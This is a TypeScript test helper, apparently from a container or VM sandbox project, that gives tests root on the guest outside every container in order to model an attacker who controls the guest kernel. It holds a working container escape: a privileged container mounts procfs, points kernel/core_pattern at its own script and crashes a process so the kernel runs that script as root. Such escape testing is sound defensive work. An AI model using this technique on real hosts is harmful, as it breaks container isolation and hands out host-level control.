// Makes a test the guest's root, outside of every container: what an attacker is who has taken over the guest's kernel.
import type { Container } from '../../src/model/pod.js';
import { sh, shOk } from './harness.js';

/** What a container needs to reach the kernel around it. */
export const powerful = [
  ...['CAP_SYS_ADMIN', 'CAP_DAC_OVERRIDE', 'CAP_SYS_PTRACE', 'CAP_SYS_CHROOT', 'CAP_MKNOD'],
];

/** mount(2) by perl, which every Debian has: the program `mount` is not in all of them. Flags as in `linux/mount.h`. */
export function mountCommand(options: {
  readonly type: 'proc' | 'tmpfs' | 'none';
  readonly target: string;
  readonly flags?: number;
}): string {
  const { type, target, flags = 0 } = options;
  const code = `($s, $t) = ("${type}", "${target}"); syscall(165, $s, $t, $s, ${flags}, 0) == 0 or die "$!\\n"`;
  return `perl -e '${code}'`;
}

/**
 * Runs a shell script as the guest's root and returns all that it prints. A kernel runs its handler of crashes outside of every
 * container, so a powerful one sets the handler and crashes a process. The container's root is `$ROOT` there.
 */
export async function asGuestRoot(container: Container, script: string): Promise<string> {
  await endAsGuestRoot(container, script);
  return await shOk(container, waitForHandler);
}

/** Like `asGuestRoot`, without waiting for the script's end: for one that ends the guest. */
export async function endAsGuestRoot(container: Container, script: string): Promise<void> {
  await shOk(container, installHandler, { env: { SCRIPT: script } });
  await sh(container, "ulimit -c unlimited; sh -c 'kill -SEGV $$'");
}

const installHandler = `
  [ -e /mnt/sysrq-trigger ] || ${mountCommand({ type: 'proc', target: '/mnt' })}
  rm -f /tmp/handler.*
  printf '%s' "$SCRIPT" > /tmp/handler.script
  cat > /tmp/handler.sh <<'END'
export ROOT=$1
(. "$ROOT/tmp/handler.script") > "$ROOT/tmp/handler.out" 2>&1
: > "$ROOT/tmp/handler.done"
END
  echo '|/bin/busybox sh /proc/%P/root/tmp/handler.sh /proc/%P/root' > /mnt/sys/kernel/core_pattern`;

const waitForHandler = `
  for i in $(seq 300); do
    if [ -e /tmp/handler.done ]; then cat /tmp/handler.out; exit 0; fi
    sleep 0.1
  done
  echo 'the handler has not ended' >&2; exit 1`;
